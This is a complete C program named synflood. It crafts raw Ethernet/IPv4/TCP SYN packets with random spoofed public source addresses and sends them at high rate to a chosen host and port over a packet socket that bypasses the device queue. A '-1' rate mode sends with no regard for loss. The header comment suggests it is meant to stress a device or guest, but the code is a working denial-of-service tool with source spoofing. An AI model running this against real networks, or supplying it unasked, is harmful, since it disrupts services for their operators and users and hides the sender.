/*
 * A flood of SYNs with random sources, as fast as this machine sends, straight into a device (a
 * packet socket, past the device's queue). Prints one line of JSON.
 *
 *	synflood DEVICE MAC HOST PORT SECONDS RATE
 *
 * MAC, HOST, PORT: whom it is for. RATE: at most so many a second. 0: as many as the guest takes:
 * faster until the device is full, then slower, so that the device has room for others. -1: without
 * regard to that; the device then loses nearly all of everybody's. Sources are taken from 1.0.0.0
 *to 223.255.255.255 without 10.0.0.0/8 and 127.0.0.0/8.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NSEC 1000000000ull
#define BATCH 16
#define MIN_RATE 5000 /* to begin with, and at least */
#define ETH 14
#define LEN (ETH + 20 + 24) /* IPv4, TCP with the MSS option */

static uint8_t frames[BATCH][LEN];
static uint64_t seed = 0x9e3779b97f4a7c15;

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * NSEC + ts.tv_nsec;
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* xorshift64* */
static uint64_t random64(void)
{
	seed ^= seed >> 12;
	seed ^= seed << 25;
	seed ^= seed >> 27;
	return seed * 0x2545f4914f6cdd1d;
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t add(uint32_t acc, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i < len; i += 2)
		acc += p[i] << 8 | p[i + 1];
	return acc;
}

static void put_sum(uint8_t *p, uint32_t acc)
{
	acc = (acc & 0xffff) + (acc >> 16);
	put16(p, ~(acc + (acc >> 16)));
}

static uint32_t random_source(void)
{
	uint32_t source;

	do {
		source = random64() >> 32;
	} while (source >> 24 == 0 || source >> 24 == 10 || source >> 24 == 127 ||
		 source >> 24 >= 224);
	return source;
}

static void frame_init(uint8_t *f, const uint8_t *mac, const char *host, int port)
{
	uint32_t dest = ntohl(inet_addr(host));
	uint8_t *ip = f + ETH, *tcp = ip + 20;

	memcpy(f, mac, 6);
	memcpy(f + 6, "\x02\x00\x00\x00\x00\x66", 6);
	put16(f + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	put16(ip + 2, LEN - ETH);
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 16, dest);
	put16(tcp + 2, port);
	tcp[12] = 6 << 4;
	tcp[13] = 2; /* SYN */
	put16(tcp + 14, 64240);
	put32(tcp + 20, 0x020405b4);
}

static void frame_next(uint8_t *f)
{
	uint8_t *ip = f + ETH, *tcp = ip + 20;
	uint64_t r = random64();

	put32(ip + 12, random_source());
	put16(ip + 10, 0);
	put_sum(ip + 10, add(0, ip, 20));
	put16(tcp, 1024 + (r & 0xffff) % 64000);
	put32(tcp + 4, r >> 32);
	put16(tcp + 16, 0);
	put_sum(tcp + 16, add(IPPROTO_TCP + 24, ip + 12, 8 + 24));
}

static int open_device(const char *name)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(name) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;

	if (fd < 0 || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
		die(name);
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return fd;
}

/* Frames of a batch that the device had no room for. */
static int send_batch(int fd, struct mmsghdr *batch)
{
	int lost = 0;

	for (int done = 0; done < BATCH; done++, lost++) {
		int n = sendmmsg(fd, batch + done, BATCH - done, 0);

		if (n < 0 && errno != ENOBUFS && errno != EINTR && errno != EAGAIN)
			die("sendmmsg");
		done += n > 0 ? n : 0;
		if (done == BATCH)
			break;
	}
	return lost;
}

static void sleep_until(uint64_t then)
{
	struct timespec ts = { then / NSEC, then % NSEC };

	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
}

/* Additive increase, multiplicative decrease. */
static double next_rate(double rate, bool lost)
{
	return lost ? rate * 0.8 > MIN_RATE ? rate * 0.8 : MIN_RATE : rate + 100;
}

static void flood(int fd, uint64_t end, long limit, uint64_t *sent, uint64_t *lost)
{
	struct mmsghdr batch[BATCH] = { 0 };
	struct iovec iov[BATCH];
	double rate = limit ? limit : MIN_RATE;
	uint64_t next = now_ns();

	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){ frames[i], LEN };
		batch[i].msg_hdr = (struct msghdr){ .msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	while (now_ns() < end) {
		int full;

		for (int i = 0; i < BATCH; i++)
			frame_next(frames[i]);
		full = send_batch(fd, batch);
		*sent += BATCH;
		*lost += full;
		if (limit == 0)
			rate = next_rate(rate, full);
		if (limit == 0 && full)
			next = now_ns() + NSEC / 100;
		next += BATCH * NSEC / rate;
		if (limit >= 0)
			sleep_until(next);
	}
}

int main(int argc, char **argv)
{
	uint64_t start = now_ns(), lost = 0, sent = 0;
	unsigned int mac[6];
	uint8_t bytes[6];
	int fd;

	if (argc != 7 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3],
				&mac[4], &mac[5]) != 6) {
		fprintf(stderr, "usage: synflood DEVICE MAC HOST PORT SECONDS RATE\n");
		return 2;
	}
	for (int i = 0; i < 6; i++)
		bytes[i] = mac[i];
	for (int i = 0; i < BATCH; i++)
		frame_init(frames[i], bytes, argv[3], atoi(argv[4]));
	fd = open_device(argv[1]);
	flood(fd, start + (uint64_t)(atof(argv[5]) * NSEC), atol(argv[6]), &sent, &lost);
	printf("{\"seconds\": %.3f, \"sent\": %llu, \"full\": %llu}\n", (now_ns() - start) / 1e9,
	       (unsigned long long)sent, (unsigned long long)lost);
	return 0;
}
